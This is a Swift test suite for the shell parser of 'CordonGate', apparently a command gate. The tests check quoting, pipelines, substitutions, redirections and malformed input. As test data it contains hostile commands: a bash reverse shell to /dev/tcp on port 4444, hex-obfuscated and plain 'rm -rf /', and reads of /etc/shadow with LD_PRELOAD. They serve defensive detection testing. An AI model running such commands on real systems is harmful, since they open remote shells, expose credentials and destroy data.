// The shell parser: quoting, expansions, structure, and hostile input that must end in a
// decision (never a crash, never a hang).
import Testing

@testable import CordonGate

@Suite("shell parser", .timeLimit(.minutes(10)))
struct ParserTests {
    func words(_ s: String) -> [[String]] { Shell.parse(s).commands.map { $0.words.map(\.value) } }

    @Test("quotes, escapes and ANSI-C strings are removed the way bash removes them")
    func quoting() {
        #expect(words(#"echo 'a b' "c d" e\ f"#) == [["echo", "a b", "c d", "e f"]])
        #expect(words(#"printf "%s\n" "$'x'""#) == [["printf", #"%s\n"#, "$'x'"]])
        #expect(words(#"$'\x72\x6d' -rf /"#) == [["rm", "-rf", "/"]])
        #expect(Shell.parse(#"$'\x72\x6d' -rf /"#).commands[0].words[0].hexEscaped)
        #expect(words("echo a\\\nb") == [["echo", "ab"]])
    }

    @Test("pipelines, lists and background jobs are split into commands with their pipeline")
    func structure() {
        let s = Shell.parse("a | b && c || d; e & f |& g")
        #expect(s.commands.map { $0.words[0].value } == ["a", "b", "c", "d", "e", "f", "g"])
        #expect(s.commands[0].pipeline == s.commands[1].pipeline)
        #expect(s.commands[1].position == 1)
        #expect(s.commands[4].background)
        #expect(s.problems.isEmpty)
    }

    @Test("command and process substitutions are parsed as nested commands")
    func substitutions() {
        let s = Shell.parse("echo $(curl -s x | base64 -d) `id` <(wget -qO- y)")
        #expect(
            Set(s.commands.compactMap { $0.words.first?.value }) == [
                "echo", "curl", "base64", "id", "wget",
            ])
        #expect(s.commands.first { $0.words.first?.value == "curl" }?.depth == 1)
        #expect(s.problems.isEmpty)
    }

    @Test("redirections, here-documents and here-strings are attached to their command")
    func redirections() {
        let s = Shell.parse(
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\ncat <<'EOF' > out\nhello $USER\nEOF\ngrep x <<< \"$v\""
        )
        #expect(s.commands[0].redirects.map(\.op) == [">&", ">&"])
        #expect(s.commands[0].redirects[0].target.value == "/dev/tcp/203.0.113.7/4444")
        #expect(s.commands[1].redirects.first?.hereText == "hello $USER\n")
        #expect(s.commands[2].redirects.first?.op == "<<<")
        #expect(s.problems.isEmpty)
    }

    @Test("if, for, while, case and functions are flattened into their commands")
    func compound() {
        let s = Shell.parse(
            """
            if [ -f x ]; then rm x; else touch x; fi
            for f in *.txt; do wc -l "$f"; done
            while read l; do echo "$l"; done < file
            case $1 in start) run ;; stop|halt) kill 1 ;& *) echo no ;; esac
            f() { ls; }
            (cd /tmp && make) > log
            """)
        let programs = s.commands.compactMap { $0.words.first?.value }
        #expect(
            programs == [
                "[", "rm", "touch", "wc", "read", "echo", "run", "kill", "echo", "ls", "cd", "make",
            ])
        #expect(s.functions.map(\.name) == ["f"])
        #expect(s.problems.isEmpty, "\(s.problems)")
    }

    @Test("assignments before a command and known variables are resolved")
    func assignments() {
        let s = Shell.parse("LFILE=/etc/shadow\nLD_PRELOAD=/tmp/x.so cat \"$LFILE\"")
        #expect(s.bareAssignments.map(\.name) == ["LFILE"])
        #expect(s.commands[1].assignments.map(\.name) == ["LD_PRELOAD"])
        #expect(s.commands[1].words.map(\.value) == ["cat", "/etc/shadow"])
    }

    // MARK: bad input

    @Test(
        "empty and whitespace-only input is an allowed no-op",
        arguments: ["", "   ", "\n\n\t", "# only a comment"])
    func empty(_ text: String) {
        let d = decide(text)
        #expect(d.decision == .allow)
        #expect(d.findings.isEmpty)
    }

    @Test(
        "an unterminated quote is a finding that says where parsing stopped",
        arguments: ["echo 'abc", "echo \"abc", "echo `id", "echo $(id", "echo ${x", "cat <<<"])
    func unterminated(_ text: String) {
        let d = decide(text)
        #expect(d.decision != .allow)
        #expect(d.findings.contains { $0.detector == "unparseable" && $0.reason.contains("at byte") })
    }

    @Test(
        "10,000-deep $( nesting stops at the depth limit with a finding, without exhausting the stack")
    func deepNesting() {
        let text = String(repeating: "$(", count: 10_000) + "id" + String(repeating: ")", count: 10_000)
        let d = decide("echo " + text)
        #expect(d.decision != .allow)
        #expect(d.findings.contains { $0.reason.contains("nesting deeper than") })
        let backticks = String(repeating: "`echo \\", count: 2_000)
        #expect(decide(backticks).decision != .allow)
        let subshells =
            String(repeating: "( ", count: 10_000) + "ls" + String(repeating: " )", count: 10_000)
        #expect(decide(subshells).findings.contains { $0.detector == "unparseable" })
    }

    @Test("a 1 MiB command is decided, and the oversize itself is a finding")
    func huge() {
        let line = String(repeating: "echo hello world; ", count: (1 << 20) / 18 + 10)
        let d = decide(line)
        #expect(d.decision != .allow)
        #expect(d.findings.contains { $0.reason.contains("1 MiB") })
        // Just under the limit, with a dangerous command at the end: still seen.
        let payload = String(repeating: "a", count: (1 << 20) - 100)
        #expect(decide("echo \(payload); rm -rf /").decision == .block)
    }

    @Test("NUL bytes and invalid UTF-8 are findings, not crashes")
    func bytes() {
        let nul = decide("ls\u{0}; rm -rf ~")
        #expect(nul.decision == .block)
        #expect(nul.findings.contains { $0.reason.contains("NUL") })
        let invalid = String(decoding: [0x6c, 0x73, 0x20, 0xff, 0xfe, 0x80], as: UTF8.self)
        let d = decide(invalid)
        #expect(d.decision == .requiresApproval)
        #expect(d.findings.contains { $0.reason.contains("invalid UTF-8") })
    }

    @Test(
        "a stray operator is reported, not looped on",
        arguments: [")", "ls )", ";;", "| ls", "&& ls", "ls ((", "f() {"])
    func strayOperators(_ text: String) {
        let d = decide(text)
        #expect(d.findings.contains { $0.detector == "unparseable" })
    }
}
